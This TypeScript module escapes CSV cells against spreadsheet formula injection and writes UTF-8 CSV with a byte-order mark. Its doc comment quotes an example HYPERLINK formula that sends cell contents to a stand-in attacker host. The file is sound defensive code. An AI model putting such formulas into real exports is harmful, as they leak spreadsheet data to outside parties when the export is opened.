/**
 * CSV cells for spreadsheets. A cell that starts with = + - @ (or a tab or carriage return) is a formula to
 * Excel and WPS: a site name like `=HYPERLINK("https://evil.example/?"&A1,"点击")` would run when an official
 * opens the export (CSV injection). Such text is prefixed with an apostrophe, which the spreadsheet shows as
 * plain text; numbers are written as they are.
 */
const formulaStart = /^[=+\-@\t\r]/

export function csvCell(value: unknown): string {
  if (typeof value === 'number' || typeof value === 'bigint') return String(value)
  let text = String(value ?? '')
  if (formulaStart.test(text)) text = `'${text}`
  return /[",\r\n]/.test(text) ? `"${text.replace(/"/g, '""')}"` : text
}

/** Rows to CSV, UTF-8 with a byte-order mark so that Excel opens the Chinese correctly. */
export const csvDocument = (rows: unknown[][]): string => `\uFEFF${rows.map((row) => row.map(csvCell).join(',')).join('\r\n')}\r\n`
